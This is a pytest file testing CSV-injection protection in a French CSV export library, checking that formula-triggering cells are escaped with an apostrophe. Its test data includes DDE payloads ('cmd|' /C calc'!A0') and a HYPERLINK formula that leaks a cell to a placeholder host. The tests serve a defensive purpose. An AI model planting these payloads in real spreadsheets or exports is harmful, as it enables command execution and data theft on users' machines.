"""CSV injection: hostile cell text is written so no spreadsheet evaluates it.

The files are read back with the standard library's ``csv`` module, as the
product documents them (UTF-8 with BOM, « ; », CRLF), never with the product's
own reader, and the expected cells are written out by hand.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from conftest import BuildResult
from csv_rows import csv_rows
from marianne_kit.french_csv import french_csv

#: (cell text, the cell a spreadsheet must receive): an apostrophe before any
#: leading ``= + - @``, tab or carriage return, nothing added anywhere else.
HOSTILE_CELLS = [
    ("=1+1", "'=1+1"),
    (
        '=HYPERLINK("http://exemple.invalid/?x="&A1;"Cliquer")',
        '\'=HYPERLINK("http://exemple.invalid/?x="&A1;"Cliquer")',
    ),
    ("+33 5 56 00 00 00", "'+33 5 56 00 00 00"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\t", "'\t"),
    ("\r", "'\r"),
]
HARMLESS_CELLS = [
    "Accueil = guichet",
    "Réponse sous 5 jours + relance",
    "a-b",
    "’=1",
    "'=déjà protégé",
    "",
]


@pytest.mark.parametrize(("hostile", "expected"), HOSTILE_CELLS)
def test_formula_triggers_are_neutralised(hostile: str, expected: str) -> None:
    rows = csv_rows(french_csv(["Levier", hostile], [[hostile, "LEV-01-01"]]))
    assert rows == [["Levier", expected], [expected, "LEV-01-01"]]


def test_other_text_is_written_unchanged() -> None:
    assert len(HARMLESS_CELLS) == 6
    rows = csv_rows(french_csv(["Texte"], [[cell] for cell in HARMLESS_CELLS]))
    assert rows == [["Texte"], *([cell] for cell in HARMLESS_CELLS)]


def test_numbers_stay_numbers_with_a_decimal_comma() -> None:
    """A number is not text: -1 must reach the spreadsheet as the number -1."""
    data = french_csv(["n", "x", "vide"], [[-1, -1.5, None], [12, 0.25, None]])
    assert data == "\ufeffn;x;vide\r\n-1;-1,5;\r\n12;0,25;\r\n".encode()
    assert csv_rows(data) == [["n", "x", "vide"], ["-1", "-1,5", ""], ["12", "0,25", ""]]


_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _site_csv_files(site: BuildResult) -> list[Path]:
    return sorted([*site.outdir.glob("checklists/*.csv"), *site.outdir.glob("tracabilite/*.csv")])


def test_no_cell_of_the_site_csv_files_starts_like_a_formula(site: BuildResult) -> None:
    """Every published CSV, whatever its cells: lever texts and the site names referents
    type in profiles reach these files (no cell needs an apostrophe today)."""
    files = _site_csv_files(site)
    names = [path.name for path in files]
    assert len(files) == 9, names  # four checklists, five matrices
    cells = [cell for path in files for row in csv_rows(path.read_bytes()) for cell in row]
    assert len(cells) > 349 * 12
    assert [cell for cell in cells if cell.startswith(_TRIGGERS)] == []
